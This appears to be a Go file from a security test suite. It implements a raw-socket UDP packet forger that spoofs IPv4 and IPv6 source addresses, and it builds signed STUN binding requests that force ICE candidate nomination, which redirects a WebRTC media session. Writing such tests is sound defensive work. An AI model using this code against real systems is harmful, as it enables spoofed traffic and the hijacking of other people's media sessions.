package attacks

import (
	"encoding/binary"
	"fmt"
	"net/netip"

	"github.com/pion/ice/v4"
	"github.com/pion/stun/v4"
	"golang.org/x/sys/unix"
)

// forger sends UDP packets from any address and port.
type forger struct{ fd4, fd6 int }

func newForger() (*forger, error) {
	fd4, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return nil, fmt.Errorf("a raw socket: %w", err)
	}
	fd6, err := unix.Socket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		_ = unix.Close(fd4)
		return nil, fmt.Errorf("a raw socket: %w", err)
	}
	return &forger{fd4, fd6}, nil
}

func (f *forger) close() {
	_ = unix.Close(f.fd4)
	_ = unix.Close(f.fd6)
}

// send sends a packet to the node's media port. Its headers are of RFC 791, RFC
// 8200 and RFC 768.
func (f *forger) send(from netip.AddrPort, payload []byte) error {
	udp := make([]byte, 8, 8+len(payload))
	binary.BigEndian.PutUint16(udp, from.Port())
	binary.BigEndian.PutUint16(udp[2:], mediaPort)
	binary.BigEndian.PutUint16(udp[4:], uint16(8+len(payload)))
	udp = append(udp, payload...)
	if from.Addr().Is4() {
		to := netip.MustParseAddr(apAddress).As4()
		source := from.Addr().As4()
		packet := make([]byte, 20, 20+len(udp))
		packet[0], packet[8], packet[9] = 0x45, 64, unix.IPPROTO_UDP
		binary.BigEndian.PutUint16(packet[2:], uint16(20+len(udp)))
		copy(packet[12:], source[:])
		copy(packet[16:], to[:])
		// The kernel computes the sum of the header; UDP needs none over IPv4.
		return unix.Sendto(f.fd4, append(packet, udp...), 0, &unix.SockaddrInet4{Addr: to})
	}
	to := netip.MustParseAddr("fd89::1").As16()
	source := from.Addr().As16()
	packet := make([]byte, 40, 40+len(udp))
	packet[0], packet[6], packet[7] = 0x60, unix.IPPROTO_UDP, 64
	binary.BigEndian.PutUint16(packet[4:], uint16(len(udp)))
	copy(packet[8:], source[:])
	copy(packet[24:], to[:])
	binary.BigEndian.PutUint16(udp[6:], checksum(packet[8:40], udp))
	return unix.Sendto(f.fd6, append(packet, udp...), 0, &unix.SockaddrInet6{Addr: to})
}

// checksum is that of UDP over IPv6 (RFC 8200 §8.1).
func checksum(addresses, udp []byte) uint16 {
	sum := uint32(len(udp)) + unix.IPPROTO_UDP
	for _, b := range [][]byte{addresses, udp} {
		for i, x := range b {
			if i%2 == 0 {
				sum += uint32(x) << 8
			} else {
				sum += uint32(x)
			}
		}
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	if s := ^uint16(sum); s != 0 {
		return s
	}
	return 0xffff
}

// nominating is a binding request of a session, valid in all, that nominates
// wherever it comes from (RFC 8445 §7.1).
func (s *session) nominating() ([]byte, error) {
	m, err := stun.Build(stun.BindingRequest, stun.TransactionID,
		stun.NewUsername(attribute(s.body, "ice-ufrag")+":"+attribute(s.offer, "ice-ufrag")),
		ice.UseCandidate(), ice.AttrControlling(1), ice.PriorityAttr(1<<31-1),
		stun.NewShortTermIntegrity(attribute(s.body, "ice-pwd")), stun.Fingerprint)
	if err != nil {
		return nil, err
	}
	return m.Raw, nil
}
